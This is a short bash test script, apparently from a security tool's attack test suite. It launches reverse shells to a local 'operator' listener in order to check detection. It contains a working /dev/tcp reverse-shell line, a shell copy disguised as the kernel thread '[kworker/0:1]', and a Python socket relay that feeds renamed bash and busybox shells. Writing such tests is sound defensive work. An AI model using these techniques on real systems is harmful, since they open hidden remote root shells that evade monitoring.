#!/usr/bin/env bash
# The same with a renamed copy of the shell, with another renamed copy that Python feeds through a local socket, and with
# busybox.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 3 &
operator=$!
wait_for "$work/port"
port=$(<"$work/port")

cat >"$work/relay.py" <<'PYTHON'
import socket, subprocess, sys
port, *command = sys.argv[1:]
with socket.create_connection(("127.0.0.1", int(port))) as connection:
    ours, theirs = socket.socketpair()
    with subprocess.Popen(command, stdin=theirs, stdout=connection, stderr=connection):
        theirs.close()
        ours.sendall(connection.recv(4096))
PYTHON
own_folder /mnt
cp "$(readlink -f /bin/sh)" "$work/kworker"
cp "$(readlink -f /bin/bash)" /mnt/agent
bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; head -n 2 <&3 | (exec -a '[kworker/0:1]' '$work/kworker' >&3 2>&3)" || true
python3 "$work/relay.py" "$port" /mnt/agent --norc -i || true
python3 "$work/relay.py" "$port" "$(command -v busybox)" sh || true
wait "$operator"
[[ $(grep -c 'uid=0' "$work/answers") = 3 ]] || fail "not every shell answered"
